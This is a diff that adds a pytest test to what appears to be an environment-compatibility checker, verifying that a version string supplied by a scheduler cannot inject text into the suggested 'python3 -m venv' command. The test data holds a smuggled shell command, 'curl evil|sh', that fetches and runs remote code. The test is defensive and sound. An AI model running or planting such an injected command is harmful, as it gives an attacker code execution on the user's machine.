@@ -127,6 +127,13 @@ def test_another_python_is_refused_with_what_differs_and_the_command_that_helps(
     assert image in said
 
 
+def test_a_scheduler_writes_no_part_of_the_command_that_helps() -> None:
+    told = {**PACKAGES, "python": "3;curl evil|sh;.13.1.final.0"}
+    with pytest.raises(errors.VersionsDifferError) as caught:
+        fitting.check_fit(told, team="fraud", told=None, stacklevel=1)
+    assert "`python3 -m venv fits`" in str(caught.value)
+
+
 @pytest.mark.usefixtures("namespace")
 def test_what_differs_is_there_for_programs_and_can_be_passed_over(
     monkeypatch: pytest.MonkeyPatch,
